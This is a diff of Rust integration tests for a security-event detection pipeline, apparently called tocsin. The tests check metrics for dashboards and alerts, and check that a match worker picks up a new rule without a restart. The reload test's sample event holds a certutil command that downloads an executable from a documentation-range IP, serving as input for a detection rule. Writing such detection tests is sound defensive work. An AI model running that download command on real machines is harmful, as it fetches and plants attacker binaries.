@@ -863,12 +863,22 @@ fn workers_survive_a_broker_restart_with_nothing_lost() {
     }
     read_warnings(&reader, &mut seen, Duration::from_secs(2));
     wait_ready(true, Duration::from_secs(30));
-    let (_, after) = http_get(listen, "/metrics");
+    // Every event is counted once the tail of the stream (after the campaign) is read.
+    let until = Instant::now() + Duration::from_secs(60);
+    let after = loop {
+        let (_, after) = http_get(listen, "/metrics");
+        let n = metric(&after, &events_series).unwrap_or(0.0);
+        if n >= lines.len() as f64 || Instant::now() > until {
+            break after;
+        }
+        std::thread::sleep(Duration::from_millis(200));
+    };
     let events_after = metric(&after, &events_series).unwrap();
     assert!(
         events_after >= lines.len() as f64 && events_after > events_before,
         "events counted: {events_before} then {events_after}"
     );
+    assert_dashboards_use_exposed_metrics(&after);
     let (status, worker_err) = terminate(worker);
     assert!(status.success(), "worker all exit {status}: {worker_err}");
     assert_final_versions(&expected, &seen, &worker_err);
@@ -1010,4 +1020,142 @@ fn worker_stops_within_its_deadline_when_the_broker_is_gone() {
         "killed by a signal, not exited: {status}\n{err}"
     );
     eprintln!("stopped {took:?} after SIGTERM with the broker gone: {status}");
+}
+
+/// The alerts and the dashboard in deploy/monitoring query only metric names that a running
+/// worker exposes (`exposition` is a scrape of `worker all` after a workload went through).
+fn assert_dashboards_use_exposed_metrics(exposition: &str) {
+    let exposed: BTreeSet<&str> = exposition
+        .lines()
+        .filter(|l| !l.starts_with('#'))
+        .filter_map(|l| l.split(['{', ' ']).next())
+        .collect();
+    let mut used = BTreeSet::new();
+    for file in [
+        "deploy/monitoring/prometheus-rules.yaml",
+        "deploy/monitoring/grafana-dashboard.json",
+    ] {
+        let text = std::fs::read_to_string(repo().join(file)).unwrap();
+        let mut rest = text.as_str();
+        while let Some(at) = rest.find("tocsin_") {
+            rest = &rest[at..];
+            let end = rest
+                .find(|c: char| !(c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'))
+                .unwrap_or(rest.len());
+            used.insert((file, rest[..end].to_owned()));
+            rest = &rest[end..];
+        }
+    }
+    assert!(used.len() > 10, "few metric names found: {used:?}");
+    for (file, name) in &used {
+        // A histogram is exposed as NAME_bucket, NAME_sum and NAME_count.
+        let found = exposed.contains(name.as_str())
+            || ["_bucket", "_sum", "_count"]
+                .iter()
+                .any(|s| exposed.contains(format!("{name}{s}").as_str()));
+        assert!(
+            found,
+            "{file} queries {name}, which the worker does not expose"
+        );
+    }
+}
+
+/// A rule added to a watched rule directory (a ConfigMap update, in Kubernetes) is used by
+/// a running match worker without a restart: an event no loaded rule matches is published,
+/// the site rule of deploy/ is copied in, and the same event published again is detected.
+#[test]
+fn match_worker_picks_up_a_new_rule_without_a_restart() {
+    let Some(bootstrap) = bootstrap() else { return };
+    let id = unique();
+    let dir = tempfile::tempdir().unwrap();
+    let site = dir.path().join("site-rules");
+    std::fs::create_dir(&site).unwrap();
+    let config = scenario_config(dir.path(), &bootstrap, &id);
+    let mut text = std::fs::read_to_string(&config).unwrap();
+    text = text.replace(
+        "[rules]\npaths = [",
+        &format!("[rules]\nwatch_s = 1\npaths = [\"{}\", ", site.display()),
+    );
+    std::fs::write(&config, text).unwrap();
+    run_ok(
+        configured()
+            .args(["topics", "create", "--partitions", "1", "--config"])
+            .arg(&config)
+            .arg("--recipients")
+            .arg(repo().join("rules/recipients.yaml")),
+    );
+    let listen = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap();
+    let worker = Reaped(Some(spawn_configured_with(
+        &config,
+        "match",
+        &["--listen", &listen.to_string()],
+    )));
+    let reader = Source::subscribe(
+        &KafkaSettings::new(bootstrap.clone()),
+        &format!("test-{id}-reader"),
+        &[format!("test.{id}.detections")],
+    )
+    .unwrap();
+    let mut sink = Sink::new(&KafkaSettings::new(bootstrap.clone())).unwrap();
+    let event = |n: u32| {
+        format!(
+            r#"{{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.7/a{n}.exe a.exe","sector":"health","member_state":"DE","organisation":"Klinikum Test","@timestamp":"2026-03-02T08:00:0{n}Z"}}"#
+        )
+    };
+    let topic = format!("test.{id}.events");
+    let publish = |sink: &mut Sink, n: u32| {
+        sink.send(&topic, None, event(n).as_bytes(), &[]).unwrap();
+        sink.flush(Duration::from_secs(30)).unwrap();
+    };
+    let consumed = |n: f64| {
+        let until = Instant::now() + Duration::from_secs(60);
+        let series = format!("tocsin_events_total{{source=\"test.{id}.events\"}}");
+        while metric(&http_get(listen, "/metrics").1, &series).unwrap_or(0.0) < n {
+            assert!(
+                Instant::now() < until,
+                "the worker did not consume event {n}"
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    };
+    publish(&mut sink, 1);
+    consumed(1.0);
+    let (_, m) = http_get(listen, "/metrics");
+    assert_eq!(metric(&m, "tocsin_rule_set_version"), Some(1.0));
+    std::fs::copy(
+        repo().join("deploy/k8s/base/site-rules/certutil_download.yml"),
+        site.join("certutil_download.yml"),
+    )
+    .unwrap();
+    let until = Instant::now() + Duration::from_secs(60);
+    while metric(&http_get(listen, "/metrics").1, "tocsin_rule_set_version") != Some(2.0) {
+        assert!(Instant::now() < until, "the new rule was not loaded");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    // The switch happens between batches: publish after one more window has passed.
+    std::thread::sleep(Duration::from_millis(500));
+    publish(&mut sink, 2);
+    consumed(2.0);
+    let mut rules_hit = Vec::new();
+    let until = Instant::now() + Duration::from_secs(30);
+    while rules_hit.is_empty() && Instant::now() < until {
+        if let Some(Ok(m)) = reader.poll(Duration::from_millis(200)) {
+            let d: serde_json::Value = serde_json::from_slice(m.payload()).unwrap();
+            rules_hit.push((
+                d["rule"]["id"].as_str().unwrap().to_owned(),
+                d["source"]["position"].as_u64().unwrap(),
+            ));
+        }
+    }
+    assert_eq!(
+        rules_hit,
+        [("47f0c3bb-25f7-47ad-873f-25e3d7926520".to_owned(), 1)],
+        "only the event after the reload is detected, by the new rule"
+    );
+    let (status, err) = terminate(worker.take());
+    assert!(status.success(), "{err}");
+    assert!(err.contains("1 rule reloads"), "{err}");
 }
